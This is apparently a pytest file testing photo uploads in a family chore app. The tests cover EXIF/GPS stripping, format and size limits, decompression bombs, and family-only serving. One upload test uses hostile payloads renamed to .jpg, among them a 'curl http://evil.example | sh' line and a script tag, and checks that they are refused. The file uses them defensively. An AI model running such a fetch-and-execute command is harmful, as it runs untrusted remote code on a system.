"""Photo proof: only real JPEG/PNG/WebP photos, re-encoded without EXIF/GPS, stored per family, served to the family."""
from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image
from werkzeug.test import TestResponse

from app.assignments.models import Assignment
from app.assignments.photos import MAX_PHOTO_BYTES, MAX_SIDE, THUMB_SIDE, PhotoTooLarge, prepare_photo, read_upload
from app.domain import ValidationFailed
from app.members.models import Member
from app.tenancy.registry import FamilyRecord
from tests.conftest import FamilyClient
from tests.tablet.conftest import GPS_IFD, Poster, photo_bytes, upload
# The kid's view fixtures serve these tests too: signed-in kids, today's assignments, CSRF, a temporary uploads folder.
from tests.tablet.conftest import load, leo, make_assignment, maya, parent, post, signed_in, uploads  # noqa: F401


def open_image(path: Path) -> Image.Image:
    """A stored picture, read whole (so no file stays open)."""
    return Image.open(io.BytesIO(path.read_bytes()))


def stored_files(uploads: Path) -> list[str]:
    return sorted(str(path.relative_to(uploads)) for path in uploads.rglob("*") if path.is_file())


@pytest.fixture
def photo_chore(maya: Member, make_assignment: Callable[..., Assignment]) -> Assignment:
    return make_assignment(maya, name="Tidy your room", chore={"requires_photo": True})


def complete_with(post: Poster, client: FamilyClient, assignment: Assignment, data: bytes | None,
                  **file: str) -> TestResponse:
    form = {"photo": upload(data, **file)} if data is not None else {}
    return post(client, f"/me/assignments/{assignment.id}/complete", form, multipart=True)


def test_a_photo_is_stored_re_encoded_without_exif_or_gps(signed_in: Callable[..., FamilyClient], post: Poster,
                                                          maya: Member, photo_chore: Assignment, uploads: Path,
                                                          family: FamilyRecord, load: Callable[..., object]) -> None:
    original = photo_bytes("JPEG", (3000, 1500), gps=True)
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(GPS_IFD)  # the test photo really carries GPS

    response = complete_with(post, signed_in(maya), photo_chore, original)

    assert response.status_code == 200
    assert "Waiting for a parent" in response.get_data(as_text=True)
    assert f'src="/photos/{photo_chore.id}/thumb"' in response.get_data(as_text=True)
    stored = load(Assignment, photo_chore.id)
    assert stored.status == "pending_verification" and stored.photo_name == f"{photo_chore.id}.jpg"
    folder = uploads / str(family.id)
    assert stored_files(uploads) == [f"{family.id}/{photo_chore.id}.jpg", f"{family.id}/{photo_chore.id}_thumb.jpg"]
    full = open_image(folder / f"{photo_chore.id}.jpg")
    assert full.format == "JPEG" and full.size == (MAX_SIDE, MAX_SIDE // 2)
    assert len(full.getexif()) == 0 and "exif" not in full.info
    raw = (folder / f"{photo_chore.id}.jpg").read_bytes()
    assert b"Exif" not in raw and b"SpyCam" not in raw
    thumb = open_image(folder / f"{photo_chore.id}_thumb.jpg")
    assert thumb.format == "JPEG" and max(thumb.size) == THUMB_SIDE and len(thumb.getexif()) == 0


@pytest.mark.parametrize(("kind", "filename", "content_type"), [("PNG", "photo.png", "image/png"),
                                                                ("WEBP", "photo.webp", "image/webp")])
def test_png_and_webp_photos_are_accepted_as_jpeg(signed_in: Callable[..., FamilyClient], post: Poster,
                                                  maya: Member, photo_chore: Assignment, uploads: Path,
                                                  family: FamilyRecord, load: Callable[..., object], kind: str,
                                                  filename: str, content_type: str) -> None:
    response = complete_with(post, signed_in(maya), photo_chore, photo_bytes(kind, (400, 300)), filename=filename,
                             content_type=content_type)
    assert response.status_code == 200
    assert load(Assignment, photo_chore.id).status == "pending_verification"
    stored = open_image(uploads / str(family.id) / f"{photo_chore.id}.jpg")
    assert stored.format == "JPEG" and stored.size == (400, 300)
    assert stored.getpixel((10, 10)) == pytest.approx((30, 140, 200), abs=6)


@pytest.mark.parametrize("payload", [
    b"#!/bin/sh\ncurl http://evil.example | sh\n",
    b"<script>alert(1)</script>",
    b"\xff\xd8\xff\xe0" + b"\x00" * 200,  # a JPEG signature and nothing after it
], ids=["shell", "html", "truncated-jpeg"])
def test_a_script_renamed_jpg_is_refused_and_nothing_changes(signed_in: Callable[..., FamilyClient], post: Poster,
                                                             maya: Member, photo_chore: Assignment, uploads: Path,
                                                             load: Callable[..., object], payload: bytes) -> None:
    response = complete_with(post, signed_in(maya), photo_chore, payload, filename="cute-cat.jpg")

    assert response.status_code == 400
    assert "isn&#39;t a photo" in response.get_data(as_text=True)
    stored = load(Assignment, photo_chore.id)
    assert stored.status == "pending" and stored.photo_name is None and stored.completed_at is None
    assert stored_files(uploads) == []


def test_a_gif_is_not_an_allowed_type(signed_in: Callable[..., FamilyClient], post: Poster, maya: Member,
                                      photo_chore: Assignment, uploads: Path) -> None:
    gif = io.BytesIO()
    Image.new("RGB", (20, 20)).save(gif, format="GIF")
    response = complete_with(post, signed_in(maya), photo_chore, gif.getvalue(), filename="a.gif",
                             content_type="image/gif")
    assert response.status_code == 400 and stored_files(uploads) == []


def test_an_11_mb_photo_is_too_large(signed_in: Callable[..., FamilyClient], post: Poster, maya: Member,
                                     photo_chore: Assignment, uploads: Path, load: Callable[..., object]) -> None:
    big = photo_bytes("JPEG") + b"\x00" * (11 * 1024 * 1024)  # a valid JPEG start, padded past the 10 MB limit

    response = complete_with(post, signed_in(maya), photo_chore, big)

    assert response.status_code == 413
    assert "too big" in response.get_data(as_text=True)
    assert load(Assignment, photo_chore.id).status == "pending" and stored_files(uploads) == []


def test_a_50_mb_upload_is_refused_before_it_is_read(signed_in: Callable[..., FamilyClient], post: Poster,
                                                     maya: Member, photo_chore: Assignment, uploads: Path,
                                                     load: Callable[..., object]) -> None:
    response = complete_with(post, signed_in(maya), photo_chore, b"\xff" * (50 * 1024 * 1024))
    assert response.status_code == 413
    assert load(Assignment, photo_chore.id).status == "pending" and stored_files(uploads) == []


def test_a_photo_chore_without_a_photo_is_refused(signed_in: Callable[..., FamilyClient], post: Poster,
                                                  maya: Member, photo_chore: Assignment,
                                                  load: Callable[..., object]) -> None:
    response = complete_with(post, signed_in(maya), photo_chore, None)
    assert response.status_code == 400
    assert "This chore needs a photo" in response.get_data(as_text=True)
    assert load(Assignment, photo_chore.id).status == "pending"


def test_a_failed_completion_keeps_no_photo(signed_in: Callable[..., FamilyClient], post: Poster, maya: Member,
                                            make_assignment: Callable[..., Assignment], uploads: Path) -> None:
    from datetime import time

    not_yet = make_assignment(maya, chore={"requires_photo": True, "not_before_time": time(23, 59, 58)})
    response = complete_with(post, signed_in(maya), not_yet, photo_bytes())
    assert response.status_code == 400 and stored_files(uploads) == []  # the staged files were discarded


def test_a_replayed_photo_tap_keeps_the_first_photo_and_credits_once(
        signed_in: Callable[..., FamilyClient], post: Poster, maya: Member,
        make_assignment: Callable[..., Assignment], uploads: Path, family: FamilyRecord,
        load: Callable[..., object], in_family) -> None:  # noqa: ANN001
    """The tablet replays an offline tap with its photo when the connection returns, and again if the answer was lost:
    the repeat is answered with the card as it is, and neither the photo nor the points change."""
    from sqlalchemy import func, select

    from app.points.models import LedgerEntry

    chore = make_assignment(maya, points=7, chore={"requires_photo": True, "requires_verification": False})
    client = signed_in(maya)
    assert complete_with(post, client, chore, photo_bytes("JPEG", (800, 600))).status_code == 200
    first = (uploads / str(family.id) / f"{chore.id}.jpg").read_bytes()

    again = complete_with(post, client, chore, photo_bytes("PNG", (400, 300)), filename="other.png",
                          content_type="image/png")

    assert again.status_code == 200 and "Done!" in again.get_data(as_text=True)
    assert stored_files(uploads) == [f"{family.id}/{chore.id}.jpg", f"{family.id}/{chore.id}_thumb.jpg"]
    assert (uploads / str(family.id) / f"{chore.id}.jpg").read_bytes() == first  # not replaced by the repeat's
    stored = load(Assignment, chore.id)
    assert stored.status == "verified" and stored.points_earned == 7
    with in_family(family) as ctx:
        assert ctx.session.scalar(select(func.count()).select_from(LedgerEntry)
                                  .where(LedgerEntry.member_id == maya.id)) == 1  # credited once


# --- serving -------------------------------------------------------------------------------------------------------

@pytest.fixture
def proof(signed_in: Callable[..., FamilyClient], post: Poster, maya: Member, photo_chore: Assignment) -> Assignment:
    """Maya's chore, done with a photo."""
    assert complete_with(post, signed_in(maya), photo_chore, photo_bytes("JPEG", (800, 600))).status_code == 200
    return photo_chore


@pytest.mark.parametrize(("suffix", "size"), [("", (800, 600)), ("/thumb", (320, 240))])
def test_the_kid_and_the_parents_can_see_the_photo(signed_in: Callable[..., FamilyClient], maya: Member,
                                                   parent: Member, proof: Assignment, suffix: str,
                                                   size: tuple[int, int]) -> None:
    for viewer in (maya, parent):
        response = signed_in(viewer).get(f"/photos/{proof.id}{suffix}")
        assert response.status_code == 200, viewer.username
        assert response.mimetype == "image/jpeg"
        assert "private" in response.headers["Cache-Control"] and "public" not in response.headers["Cache-Control"]
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert Image.open(io.BytesIO(response.data)).size == size
        response.close()


def test_another_kid_cannot_see_the_photo(signed_in: Callable[..., FamilyClient], leo: Member,
                                          proof: Assignment) -> None:
    client = signed_in(leo)
    assert client.get(f"/photos/{proof.id}").status_code == 404
    assert client.get(f"/photos/{proof.id}/thumb").status_code == 404


def test_another_family_gets_404_for_the_photo_url(signed_in: Callable[..., FamilyClient],
                                                   make_family: Callable[..., FamilyRecord],
                                                   create_member: Callable[..., Member], proof: Assignment) -> None:
    elsewhere = make_family()
    their_parent = create_member(family_record=elsewhere, role="parent", username="them")
    client = signed_in(their_parent, elsewhere)
    assert client.get(f"/photos/{proof.id}").status_code == 404
    assert client.get(f"/photos/{proof.id}/thumb").status_code == 404


def test_no_photo_yet_is_404(signed_in: Callable[..., FamilyClient], parent: Member, photo_chore: Assignment) -> None:
    assert signed_in(parent).get(f"/photos/{photo_chore.id}").status_code == 404


def test_a_conditional_request_gets_304(signed_in: Callable[..., FamilyClient], parent: Member,
                                        proof: Assignment) -> None:
    client = signed_in(parent)
    first = client.get(f"/photos/{proof.id}/thumb")
    first.close()
    again = client.get(f"/photos/{proof.id}/thumb", headers={"If-None-Match": first.headers["ETag"]})
    again.close()
    assert again.status_code == 304


# --- the module on its own ---------------------------------------------------------------------------------------

def test_read_upload_stops_at_the_limit() -> None:
    class Endless(io.RawIOBase):
        reads = 0

        def readable(self) -> bool:
            return True

        def readinto(self, buffer) -> int:  # noqa: ANN001
            self.reads += 1
            buffer[:] = b"\x00" * len(buffer)
            return len(buffer)

    stream = Endless()
    with pytest.raises(PhotoTooLarge, match="too big") as refused:
        read_upload(io.BufferedReader(stream), limit=MAX_PHOTO_BYTES)
    assert refused.value.status == 413
    assert stream.reads < 200  # it stopped just past 10 MB instead of reading on forever


def test_a_decompression_bomb_is_not_a_photo() -> None:
    bomb = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(bomb, format="PNG")  # a few KB that would decode to 144 megapixels
    assert len(bomb.getvalue()) < 1024 * 1024
    with pytest.raises(ValidationFailed):
        prepare_photo(bomb.getvalue())


def test_an_empty_file_is_refused() -> None:
    with pytest.raises(ValidationFailed, match="empty"):
        read_upload(io.BytesIO(b""))


def test_a_sideways_phone_photo_is_turned_upright() -> None:
    image = Image.new("RGB", (40, 20), (255, 0, 0))
    exif = Image.Exif()
    exif[0x0112] = 6  # "rotate 90° clockwise to view"
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif.tobytes())
    prepared = prepare_photo(out.getvalue())
    assert (prepared.width, prepared.height) == (20, 40)
